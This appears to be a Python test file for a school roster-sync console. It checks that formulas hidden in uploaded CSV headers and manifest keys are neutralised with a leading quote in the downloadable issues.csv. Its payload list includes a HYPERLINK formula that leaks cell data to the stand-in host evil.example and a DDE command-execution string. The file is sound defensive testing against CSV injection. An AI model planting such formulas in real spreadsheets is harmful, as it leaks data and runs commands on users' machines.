"""A district's file plants spreadsheet formulas in the issues CSV people download.

Header names and manifest keys are quoted verbatim in issues (field and message); the
console's ``issues.csv`` is opened in Excel. Every cell that would start a formula must
come out as text (OWASP: a leading single quote).
"""
from __future__ import annotations

import csv
import io

import pytest
from admin_helpers import account, sign_in, two_districts
from packages import write_package

from al_roster.extension import roster_state
from al_roster.sync.runner import sync_package

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click for details")',
            "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
#: A tab or carriage return before the formula is trimmed off headers and keys, and would
#: be escaped in an issue; the rule covers them all the same.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def poisoned_package(tmp_path, files):
    """``files`` again, but users.csv carries one extra column per formula and the manifest
    one key per formula."""
    folder = write_package(tmp_path / "poisoned", files)
    users = list(csv.reader(io.StringIO((folder / "users.csv").read_text())))
    with open(folder / "users.csv", "w", newline="") as out:
        writer = csv.writer(out)
        writer.writerow(users[0] + FORMULAS)
        writer.writerows(row + [""] * len(FORMULAS) for row in users[1:])
    with open(folder / "manifest.csv", "a", newline="") as out:
        csv.writer(out).writerows([formula, "x"] for formula in FORMULAS)
    return folder


@pytest.fixture
def downloaded(sqlite_app, tmp_path):
    north, _south, files, _first = two_districts(tmp_path, console_people=True)
    run = sync_package(north, poisoned_package(tmp_path, files), roster_state().sync_options)
    assert run.status == "applied", run.message
    fields = [issue.field for issue in run.issues]
    assert all(formula in fields for formula in FORMULAS), fields  # reported, verbatim
    client = sqlite_app.test_client()
    sign_in(client, account(north, "administrator", "adm-1"))
    response = client.get(f"/roster/admin/runs/{run.id}/issues.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))


def test_header_and_manifest_formulas_download_as_text(downloaded):
    header, *rows = downloaded
    assert header == ["file", "line", "field", "severity", "message", "count"]
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)], cells
    fields = [row[2] for row in rows]
    for formula in FORMULAS:
        assert "'" + formula in fields, (formula, fields)  # shown as text, not dropped


def test_the_rule_itself():
    from al_roster.oneroster.issues import spreadsheet_cell
    cells = FORMULAS + ["\t=1+1", "\r=1+1"]
    assert [spreadsheet_cell(c) for c in cells] == ["'" + c for c in cells]
    assert spreadsheet_cell("users.csv") == "users.csv"
    assert spreadsheet_cell("Column 'x' is not a OneRoster column") == \
        "Column 'x' is not a OneRoster column"
    assert spreadsheet_cell(12) == 12 and spreadsheet_cell(None) is None
